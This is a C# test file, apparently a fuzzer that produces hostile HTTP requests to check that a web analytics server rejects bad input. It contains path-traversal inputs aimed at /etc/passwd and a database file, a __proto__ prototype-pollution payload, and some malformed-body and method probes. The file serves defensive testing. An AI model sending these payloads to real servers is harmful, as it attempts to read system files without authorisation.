    private static IEnumerable<HostileRequest> Others(Random random)
    {
        // Unknown paths, the tracker with odd headers, and probes with wrong methods.
        yield return new HostileRequest("tracker:etag", "GET", "/js/script.js") { Headers = { ["If-None-Match"] = RandomText(random, 50_000), ["Accept-Encoding"] = "gzip;q=NaN, \r\n br" } };
        yield return new HostileRequest("tracker:post", "POST", "/js/script.js") { Body = [1, 2, 3], MustReject = true };
        yield return new HostileRequest("unknown:path", "GET", "/api/v3/query") { MustReject = true };
        yield return new HostileRequest("unknown:traversal", "GET", "/../../etc/passwd") { MustReject = true };
        yield return new HostileRequest("unknown:encoded", "GET", "/api/%2e%2e/%2e%2e/data/grains.db") { MustReject = true };
        foreach (var method in new[] { "PUT", "DELETE", "PATCH" })
        {
            yield return new HostileRequest("wrong-method:realtime", method, "/api/v1/realtime/visitors", $"?site_id={Site}") { MustReject = true };
            if (method != "DELETE")
            {
                // DELETE /api/sites/{domain} is real (it would erase the site the good traffic goes to).
                yield return new HostileRequest("wrong-method:site", method, $"/api/sites/{Site}") { MustReject = true };
            }
            yield return new HostileRequest("wrong-method:tracker", method, "/js/script.js") { MustReject = true };
        }
    }

    /// <summary>What every JSON endpoint gets: malformed, truncated, invalid UTF-8, deep, wrong types, unknown and missing fields, odd content types and methods.</summary>
    /// <remarks><paramref name="invalid"/> marks what a body that cannot be valid must get: by default a 4xx.</remarks>
    private static IEnumerable<HostileRequest> Generic(
        string kind, string path, string valid, Random random, string[] fields, Func<HostileRequest, HostileRequest>? invalid = null)
    {
        var bad = invalid ?? (r => r with { MustReject = true });
        var bytes = Encoding.UTF8.GetBytes(valid);

        // Truncated at every length.
        for (var length = 0; length < bytes.Length; length += 1 + random.Next(3))
        {
            yield return bad(Post($"{kind}:truncated", path, bytes[..length]));
        }

        // Malformed JSON.
        string[] malformed = ["{", "}", "[", "{\"a\":}", "{'name':'pageview'}", "{\"a\" 1}", "{,}", "[1,]", "{\"a\":1,}", "nul", "tru", "\"", "\"\\u12\"",
            "{\"a\":\"\\x41\"}", "{\"a\":01}", "{\"a\":.5}", "{\"a\":1e}", "// comment\n{}", "{} {}", "\uFEFF{}", "{\"a\":NaN}", "<xml/>", "a=1&b=2", " ", "\0"];
        foreach (var text in malformed)
        {
            yield return bad(Post($"{kind}:malformed", path, text));
        }

        // Valid JSON of the wrong shape.
        foreach (var text in new[] { "null", "true", "0", "\"text\"", "[]", "[{}]", "{}" })
        {
            yield return bad(Post($"{kind}:wrong-root", path, text));
        }

        // Invalid UTF-8 spliced into the middle of a string value, and random byte flips.
        byte[][] invalidUtf8 = [[0xFF], [0xC3, 0x28], [0xE2, 0x82], [0xED, 0xA0, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0xC0, 0xAF], [0x80]];
        var inString = Array.IndexOf(bytes, (byte)':') + 2; // just after the opening quote of the first value
        var beforeValue = Array.IndexOf(bytes, (byte)':') + 1;
        foreach (var sequence in invalidUtf8)
        {
            yield return bad(Post($"{kind}:invalid-utf8-in-string", path, [.. bytes[..inString], .. sequence, .. bytes[inString..]]));
            yield return bad(Post($"{kind}:invalid-utf8-between-tokens", path, [.. bytes[..beforeValue], .. sequence, .. bytes[beforeValue..]]));
        }

        for (var i = 0; i < 25; i++)
        {
            var flipped = (byte[])bytes.Clone();
            flipped[random.Next(flipped.Length)] = (byte)random.Next(256);
            yield return Post($"{kind}:byte-flip", path, flipped);
        }

        // Deep nesting, as the whole body and inside a field.
        foreach (var depth in new[] { 9, 17, 65, 1000, 100_000 })
        {
            yield return bad(Post($"{kind}:deep-array", path, new string('[', depth) + new string(']', depth)));
            var nested = string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth);
            yield return Post($"{kind}:deep-field", path, valid.TrimEnd('}') + ",\"" + fields[random.Next(fields.Length)] + "\":" + nested + "}");
        }

        // Unknown fields (ignored) and each field missing.
        yield return Post($"{kind}:unknown-fields", path, valid.TrimEnd('}') + ",\"__proto__\":{\"admin\":true},\"constructor\":1,\"\":null,\"x\":[1,{\"y\":2}]}");
        yield return Post($"{kind}:duplicate-fields", path, valid.TrimEnd('}') + "," + valid.TrimStart('{'));
        foreach (var field in fields)
        {
            yield return Post($"{kind}:missing-{field}", path, RemoveField(valid, field));

            // Wrong types in every field.
            foreach (var wrong in new[] { "42", "-1.5", "true", "[]", "[1,\"a\"]", "{}", "{\"a\":[]}", "\"\"", "null", "\"" + new string('x', 300) + "\"" })
            {
                yield return Post($"{kind}:type-{field}", path, SetField(valid, field, wrong));
            }
        }

        // Content types the endpoint does not take, and none at all.
        foreach (var contentType in ContentTypes)
        {
            yield return Post($"{kind}:content-type", path, valid, contentType);
        }

        yield return Post($"{kind}:no-content-type", path, valid, contentType: null);
        yield return bad(Post($"{kind}:empty", path, ""));

        // Wrong methods.
        foreach (var method in Methods)
        {
            yield return new HostileRequest($"{kind}:method", method, path) { Body = bytes, ContentType = "application/json" };
        }
    }

    private static HostileRequest Post(string kind, string path, string body, string? contentType = "application/json") =>
        Post(kind, path, Encoding.UTF8.GetBytes(body), contentType);

    private static HostileRequest Post(string kind, string path, byte[] body, string? contentType = "application/json") =>
        new(kind, "POST", path) { Body = body, ContentType = contentType };

    private static string Json(string text) => System.Text.Json.JsonSerializer.Serialize(text);

    private static string RemoveField(string json, string field)
    {
        var node = System.Text.Json.Nodes.JsonNode.Parse(json)!.AsObject();
        node.Remove(field);
        return node.ToJsonString();
    }

    private static string SetField(string json, string field, string rawValue)
    {
        var node = System.Text.Json.Nodes.JsonNode.Parse(json)!.AsObject();
        node[field] = System.Text.Json.Nodes.JsonNode.Parse(rawValue);
        return node.ToJsonString();
    }

    private static string RandomText(Random random, int length)
    {
        const string alphabet = "abcdefghijklmnopqrstuvwxyz0123456789-._~";
        var chars = new char[length];
        for (var i = 0; i < length; i++)
        {
            chars[i] = alphabet[random.Next(alphabet.Length)];
        }

        return new string(chars);
    }

    public static string Describe(IEnumerable<HostileRequest> requests) =>
        string.Join(", ", requests.GroupBy(r => r.Kind.Split(':')[0]).Select(g => g.Key + "=" + g.Count().ToString(CultureInfo.InvariantCulture)));
}
